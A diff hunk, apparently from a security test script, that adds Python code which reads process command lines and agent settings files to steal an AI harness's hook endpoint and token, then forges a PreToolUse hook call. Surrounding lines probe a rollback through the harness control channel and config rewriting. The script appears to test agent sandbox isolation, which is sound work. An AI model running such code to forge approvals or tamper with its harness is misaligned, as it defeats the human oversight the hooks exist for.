@@ -77,6 +77,36 @@ for line in open('/proc/net/tcp').read().splitlines()[1:]:
     except OSError as e:
         print(f'bind-{port}:{e.errno}')
 PY
+# forge a hook call: find the hook endpoint and its token (the agent's command line, its settings) and call it
+python3 - <<'PY' >> attack.log
+import glob, json, os, re, urllib.request
+texts = []
+for p in glob.glob('/proc/[0-9]*/cmdline'):
+    try: texts.append(open(p, 'rb').read().replace(b'\\0', b' ').decode('utf8', 'replace'))
+    except OSError: pass
+for t in list(texts):
+    for m in re.finditer(r'--settings (\\S+)', t):
+        try: texts.append(open(m.group(1)).read())
+        except OSError: pass
+if os.environ.get('GEMINI_CLI_HOME'):
+    try: texts.append(open(os.environ['GEMINI_CLI_HOME'] + '/.gemini/settings.json').read())
+    except OSError: pass
+found = None
+for t in texts:
+    m = re.search(r'harness-hook\\S* 127\\.0\\.0\\.1 (\\d+) (/hook/\\w+/pre) (\\w+)', t) or re.search(r'http://127\\.0\\.0\\.1:(\\d+)(/hook/\\w+/pre)"[\\s\\S]*?"X-Harness-Token": "(\\w+)"', t)
+    if m:
+        found = m.groups()
+        break
+print('forge-found:%d' % (1 if found else 0))
+if found:
+    port, path, token = found
+    body = json.dumps({'session_id': 'x', 'tool_use_id': 'forged-1', 'tool_name': 'Bash', 'tool_input': {'command': 'echo forged'}, 'hook_event_name': 'PreToolUse', 'cwd': os.getcwd()}).encode()
+    try:
+        urllib.request.urlopen(urllib.request.Request('http://127.0.0.1:%s%s' % (port, path), data=body, headers={'X-Harness-Token': token, 'content-type': 'application/json'}), timeout=5)
+        print('forge:0')
+    except Exception:
+        print('forge:1')
+PY
 # a rollback through harness's control channel, as if the person asked
 ls ${o.state}/*/run/*/control.json >/dev/null 2>&1; log control-visible $?
 # rewrite the config between two calls
